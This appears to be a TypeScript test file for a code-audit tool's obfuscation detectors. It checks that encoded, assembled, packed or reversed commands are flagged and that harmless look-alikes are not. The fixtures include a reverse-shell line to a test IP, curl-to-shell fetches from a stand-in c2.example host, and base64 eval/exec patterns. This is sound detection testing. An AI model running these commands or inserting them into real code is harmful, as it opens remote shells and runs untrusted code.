import { describe, expect, it } from "vitest";
import { auditText, severityOf } from "../audit-rule-harness.js";

const b64 = (text: string) => Buffer.from(text).toString("base64");

describe("obfuscation rules", () => {
  it("encoded-execution: decoded data run, not decoded data kept", () => {
    expect(
      severityOf(auditText({ "s.sh": `echo ${b64("curl x | sh")} | base64 -d | sh\n` }), "encoded-execution"),
    ).toBe("critical");
    expect(severityOf(auditText({ "s.py": "exec(base64.b64decode(P))\n" }), "encoded-execution")).toBe(
      "critical",
    );
    expect(severityOf(auditText({ "s.js": "eval(atob(code));\n" }), "encoded-execution")).toBe("critical");
    expect(
      severityOf(auditText({ "s.py": "data = base64.b64decode(PNG)\n" }), "encoded-execution"),
    ).toBeUndefined();
  });

  it("encoded-payload: a blob that decodes to commands, not one that decodes to binary", () => {
    const command = Buffer.from(
      "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1; curl -s https://c2.example/x | sh; rm -f /tmp/x",
    ).toString("hex");
    expect(severityOf(auditText({ "s.py": `P = "${command}"\n` }), "encoded-payload")).toBe("high");
    const image = Buffer.from(Uint8Array.from({ length: 300 }, (_, i) => i % 256)).toString("base64");
    expect(severityOf(auditText({ "t.py": `PNG = "${image}"\n` }), "encoded-payload")).toBeUndefined();
  });

  it("assembled-command: character codes or fragments that spell a command, not ones that spell a greeting", () => {
    const codes = [..."curl -s x | sh"].map((c) => c.charCodeAt(0)).join(",");
    expect(
      severityOf(auditText({ "s.js": `execSync(String.fromCharCode(${codes}));\n` }), "assembled-command"),
    ).toBe("high");
    expect(severityOf(auditText({ "s.sh": "a=cu; b=rl\n$a$b -s x\n" }), "assembled-command")).toBe("high");
    expect(severityOf(auditText({ "s.py": 'cmd = "cu" + "rl"\n' }), "assembled-command")).toBe("high");
    expect(
      severityOf(
        auditText({ "s.js": "console.log(String.fromCharCode(72, 101, 108, 108, 111));\n" }),
        "assembled-command",
      ),
    ).toBeUndefined();
  });

  it("packed-script: the p,a,c,k,e,r packer, not ordinary minified code", () => {
    expect(
      severityOf(
        auditText({ "s.js": "eval(function(p,a,c,k,e,d){return p}('x',1,1,'a'.split('|'),0,{}))\n" }),
        "packed-script",
      ),
    ).toBe("high");
    expect(
      severityOf(
        auditText({ "s.js": "function a(b){return b*2}const c=a(2);console.log(c);\n" }),
        "packed-script",
      ),
    ).toBeUndefined();
  });

  it("encoded-execution: decoded text run by a program, through a process substitution or a name, or reversed", () => {
    const caught = {
      "a.py": "os.system(base64.b64decode('Y3VybCB4').decode())\n",
      "b.sh": "bash <(echo Y3VybCB4 | base64 -d)\n",
      "c.sh": 'X=$(echo Y3VybCB4 | base64 -d); eval "$X"\n',
      "d.js": "const c = atob('Y3VybCB4'); require('child_process').execSync(c);\n",
      "e.py": '_c = base64.b64decode("aW1wb3J0IG9z")\nexec(_c)\n',
      "f.sh": "echo 'hs | x/moc.elpmaxe.x//:sptth s- lruc' | rev | bash\n",
    };
    for (const [file, text] of Object.entries(caught))
      expect([file, severityOf(auditText({ [file]: text }), "encoded-execution")]).toEqual([
        file,
        "critical",
      ]);
    const near = {
      "a.py": "data = base64.b64decode(blob)\nprint(len(data))\n",
      "b.js": "const img = atob(encoded);\ncanvas.draw(img);\n",
      "c.sh": "git rev-parse HEAD | xargs echo\n",
    };
    for (const [file, text] of Object.entries(near))
      expect([file, severityOf(auditText({ [file]: text }), "encoded-execution")]).toEqual([file, undefined]);
  });
});
